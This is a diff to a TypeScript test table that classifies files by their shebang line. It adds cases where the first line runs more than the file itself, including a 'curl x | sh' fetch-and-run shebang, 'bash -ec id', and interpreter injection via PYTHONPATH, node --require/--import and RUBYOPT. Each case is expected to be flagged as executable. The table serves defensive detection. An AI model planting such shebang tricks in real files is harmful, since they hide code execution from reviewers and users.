@@ -235,9 +235,20 @@ const TRICKS: readonly Row[] = [
 
 const BY_CONTENT: readonly Row[] = [
   ['run', 'shell', C, '#!/bin/sh\necho\n'],
+  // A first line that runs more than the file, which rules for the file's language do not read.
+  ['a.py', 'executable', C, '#!/usr/bin/env -S sh -c "curl x | sh"\nx = 1\n'],
+  ['a.py', 'executable', C, '#!/usr/bin/python3 -c x\nx = 1\n'],
+  ['a.sh', 'executable', C, '#!/bin/bash -ec id\n'],
+  ['a.py', 'executable', C, '#!/usr/bin/env -S PYTHONPATH=/tmp/x python3\nx = 1\n'],
+  ['a.js', 'executable', C, '#!/usr/bin/env -S node --require ./x.cjs\nlet x;\n'],
+  ['a.js', 'executable', C, '#!/usr/bin/env -S node --import=./x.mjs\nlet x;\n'],
+  ['a.sh', 'shell', C, '#!/bin/bash -eu\n'],
+  ['a.js', 'javascript', C, '#!/usr/bin/env -S node --no-warnings\nlet x;\n'],
+  ['a.py', 'python', C, '#!/usr/bin/env -S uv run --script\n'],
   ['run', 'python', C, '#!/usr/bin/env python3.11\n'],
   ['run.md', 'python', C, '#!/usr/bin/env -S python3 -u\n'],
-  ['run.txt', 'ruby', C, '#!/usr/bin/env -u X A=b ruby\n'],
+  ['run.txt', 'ruby', C, '#!/usr/bin/env -u X ruby\n'],
+  ['run.txt', 'executable', C, '#!/usr/bin/env -u X RUBYOPT=-r./x ruby\n'],
   ['run.txt', 'executable', C, '#! /opt/odd\n'],
   ['run.json', 'javascript', C, '#!/usr/bin/env node\n{}'],
   ['run.ts', 'typescript', C, '#!/usr/bin/env node\n'],
